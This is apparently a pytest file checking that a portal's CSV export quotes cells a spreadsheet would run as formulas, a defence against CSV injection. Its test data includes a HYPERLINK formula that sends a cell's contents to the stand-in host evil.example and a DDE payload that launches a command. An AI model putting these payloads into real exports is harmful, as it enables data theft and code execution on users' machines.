"""portal.exports: every CSV cell that a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from portal.exports import csv_cell, csv_response


@pytest.mark.parametrize(
    ("value", "written"),
    [
        # Text that a spreadsheet reads as a formula gets a leading quote (OWASP, CSV injection).
        (
            '=HYPERLINK("https://evil.example/?"&A1,"Click")',
            '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
        ),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-5", "'-5"),  # text that looks like a number is still text: quoted
        # Anything else is left alone.
        ("Acme Analytics", "Acme Analytics"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        # Numbers stay numbers, negative ones too: only text can hold a formula.
        (-3, -3),
        (Decimal("-1.50"), Decimal("-1.50")),
        (2.5, 2.5),
        (date(2026, 11, 1), "2026-11-01"),
    ],
)
def test_a_cell_is_written_as_a_spreadsheet_would_read_it_safely(value, written):
    assert csv_cell(value) == written


def test_the_response_writes_every_cell_through_the_helper():
    response = csv_response([["name", "delta"], ["=1+1", -4], ["@x", Decimal("-0.25")]], "x.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows == [["name", "delta"], ["'=1+1", "-4"], ["'@x", "-0.25"]]
